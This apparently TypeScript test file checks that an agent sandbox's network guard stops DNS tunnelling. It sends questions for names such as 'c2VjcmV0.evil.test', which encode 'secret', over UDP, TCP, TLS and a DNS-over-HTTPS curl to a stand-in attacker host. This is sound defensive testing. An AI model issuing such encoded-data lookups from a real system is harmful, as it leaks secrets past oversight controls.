import type { Finding } from "../case.ts";
import { formatQuery, formatTcpQuery } from "../internet/dns_query.ts";
import type { GuardedCage } from "../internet/guarded.ts";
import { type GuardedCase, tellLeaks } from "../internet/guarded_suite.ts";
import type { Outcomes } from "../internet/outcomes.ts";
import { curl, everyProxy, raw, udp } from "../internet/probes.ts";
import type { Event } from "../internet/types.ts";
import { readAnswer } from "./answer.ts";
import { count, isEchoOf, tellOthers, toFinding } from "./judge.ts";
import { ANSWER_MS, SILENCE_MS, tellUnseen } from "./outside.ts";

const SUITE = "network";

/** What asks for a name. */
export const NAME_CASES: readonly GuardedCase[] = [
  {
    id: "N04",
    suite: SUITE,
    title: "questions for names that are not allowed reach no name server",
    threat: "what stands in a name, or in an answer, goes in and out with every question",
    expectation:
      "no question of any type is passed on, over UDP, TCP, TLS or HTTPS, whoever is asked; one fetch of an allowed name is one question",
    source: "membrane, tjor, gh-aw-firewall, agentcage",
    brokenBy: "questions are passed on",
    quick: false,
    check: checkUnlisted,
  },
  {
    id: "N05",
    suite: SUITE,
    title: "a random label under an allowed wildcard never leaves",
    threat: "a zone that anybody may have names in carries data out label by label",
    expectation:
      "the name has an address at once and nobody was asked for it; a fetch from the zone works",
    source: "agentcage",
    brokenBy: "names below a wildcard are asked for",
    quick: false,
    check: checkWildcard,
  },
];

const UNLISTED = ["evil.test", `${"a".repeat(60)}.c2VjcmV0.evil.test`, "c2VjcmV0.allowed.test"];
const TYPES = ["A", "AAAA", "TXT", "NULL", "HTTPS", "ANY"] as const;
/** Types whose answer is empty for a name that is allowed. */
const EMPTY = ["AAAA", "TXT", "NULL", "HTTPS"];
const MALFORMED = ["two questions", "no question", "half a message"];
/** Whom a program can ask without leaving: the gateway, whom its libraries ask, the engine's own. */
const NEAR = ["@gateway", "@resolver", "127.0.0.11"];
const NO_SUCH_NAME = 3;
/** A name of its own, so that no answer is kept from another case. */
const FETCHED = "flip.test";

async function checkUnlisted({ internet, probe }: GuardedCage): Promise<Finding> {
  const near = UNLISTED.flatMap((name) =>
    TYPES.flatMap((type) =>
      NEAR.map((host) =>
        udp(`${type} ${name} ${host}`, {
          host,
          hex: formatQuery(name, { type }),
          waitMs: host === "@gateway" ? ANSWER_MS : SILENCE_MS,
        })
      )
    )
  );
  const streams = NEAR.slice(1).map((host) =>
    raw(`TCP ${host}`, {
      host,
      port: 53,
      send: [formatTcpQuery("evil.test")],
      waitMs: SILENCE_MS,
    })
  );
  const resolvers = [internet.addresses.decoy, internet.addresses.dns, "9.9.9.9"];
  const far = resolvers.flatMap((host) => [
    udp(`UDP ${host}`, { host, hex: formatQuery("evil.test"), waitMs: SILENCE_MS }),
    ...[53, 853].map((port) =>
      raw(`TCP ${host}:${port}`, {
        host,
        port,
        send: [formatTcpQuery("evil.test")],
        waitMs: SILENCE_MS,
      })
    ),
  ]);
  const outcomes = await probe([
    ...near,
    ...streams,
    ...far,
    curl("over HTTPS", ["-m", "5", "https://dns.evil.test/dns-query?name=c2VjcmV0"]),
    ...TYPES.map((type) =>
      udp(`allowed ${type}`, { hex: formatQuery("allowed.test", { type }), waitMs: ANSWER_MS })
    ),
    ...formatMalformed().map(({ id, hex }) => udp(id, { hex, waitMs: SILENCE_MS })),
  ]);
  const leaks = await tellLeaks(internet);
  const questions = countQuestions(await internet.events());
  await internet.probe(far);
  const unseen = tellUnseen(
    await internet.events(),
    resolvers.flatMap((to) => [
      { protocol: "udp", to, port: 53 },
      { protocol: "tcp", to, port: 53 },
      { protocol: "tcp", to, port: 853 },
    ]),
  );
  const asked = near.length + streams.length + far.length + 1;
  const own = near.map(({ id }) => id).filter((id) => id.endsWith("@gateway"));
  return toFinding({
    seen: `${count(questions, "question")} seen of ${asked}`,
    open: [
      ...leaks,
      ...tellOthers(far.map(({ id }) => outcomes.get(id)), ({ reached }) => reached === "nothing"),
      ...tellAnswered(outcomes, own),
      ...tellMore(outcomes),
    ],
    missing: [
      ...unseen,
      ...tellSilent(outcomes, [...own, ...["A", ...EMPTY].map((type) => `allowed ${type}`)]),
      ...await proveOneQuestion({ internet, probe }),
    ],
  });
}

function formatMalformed(): { id: string; hex: string }[] {
  const forms = [
    formatQuery("allowed.test", { count: 2 }),
    formatQuery("allowed.test", { count: 0 }),
    formatQuery("allowed.test").slice(0, 30),
  ];
  return forms.map((hex, index) => ({ id: MALFORMED[index]!, hex }));
}

/** Names that do not exist for an agent have no answer of another kind. */
function tellAnswered(outcomes: Outcomes, ids: readonly string[]): string[] {
  return ids.flatMap((id) => {
    const answer = readAnswer(outcomes.get(id));
    if (answer === undefined || answer.rcode === NO_SUCH_NAME) return [];
    return [`${id}: rcode ${answer.rcode}, ${count(answer.answers, "answer")}`];
  });
}

/** What an allowed name has besides its one address, and what a malformed question is told. */
function tellMore(outcomes: Outcomes): string[] {
  const address = readAnswer(outcomes.get("allowed A"));
  const more = EMPTY.flatMap((type) => {
    const answer = readAnswer(outcomes.get(`allowed ${type}`));
    if (answer === undefined || (answer.rcode === 0 && answer.answers === 0)) return [];
    return [`${type} of an allowed name: rcode ${answer.rcode}, ${answer.answers} answers`];
  });
  const malformed = MALFORMED.filter((id) => {
    const { data } = outcomes.get(id);
    // No reply, or one with an error: the last four bits of the fourth byte.
    return data !== "" && Number.parseInt(data.slice(7, 8), 16) === 0;
  });
  return [
    ...(address === undefined || address.addresses.length === 1
      ? []
      : [`A of an allowed name: ${address.addresses.join(" ")}`]),
    ...more,
    ...malformed.map((id) => `${id}: answered`),
  ];
}

function tellSilent(outcomes: Outcomes, ids: readonly string[]): string[] {
  return ids.filter((id) => readAnswer(outcomes.get(id)) === undefined)
    .map((id) => `${id}: no reply`);
}

/** The control: the recorder sees the gateway's one question for what is fetched. */
async function proveOneQuestion(
  { internet, probe }: Pick<GuardedCage, "internet" | "probe">,
): Promise<string[]> {
  internet.script(FETCHED, { answers: [[internet.addresses.echo]] });
  await internet.clear();
  const outcomes = await probe([curl("fetch", [`https://${FETCHED}/`])]);
  const questions = (await internet.events()).filter((event) => event.kind === "dns")
    .map(({ name, type }) => `${name}, type ${type}`);
  return [
    ...tellOthers(outcomes.all, isEchoOf(FETCHED)),
    ...(questions.join("; ") === `${FETCHED}, type 1`
      ? []
      : [`one question for ${FETCHED}: ${questions.join("; ") || "none"}`]),
  ];
}

function countQuestions(events: readonly Event[]): number {
  return events.filter(({ kind }) => kind === "dns").length;
}

async function checkWildcard({ internet, probe }: GuardedCage): Promise<Finding> {
  const name = `c2VjcmV0${crypto.randomUUID().slice(0, 8)}.wild.test`;
  const hosts = ["@gateway", "@resolver"];
  const outcomes = await probe(
    hosts.map((host) => udp(host, { host, hex: formatQuery(name), waitMs: ANSWER_MS })),
  );
  const leaks = await tellLeaks(internet);
  const questions = countQuestions(await internet.events());
  const fetched = await probe([
    curl("proxy", ["http://www.wild.test/"]),
    curl("no proxy", ["http://www.wild.test/"], { env: everyProxy(null) }),
  ]);
  return toFinding({
    seen: `${count(questions, "question")} seen`,
    open: leaks,
    missing: [
      ...tellOthers(outcomes.all, (one) => readAnswer(one)?.addresses.length === 1),
      ...tellOthers(fetched.all, isEchoOf("www.wild.test")),
    ],
  });
}
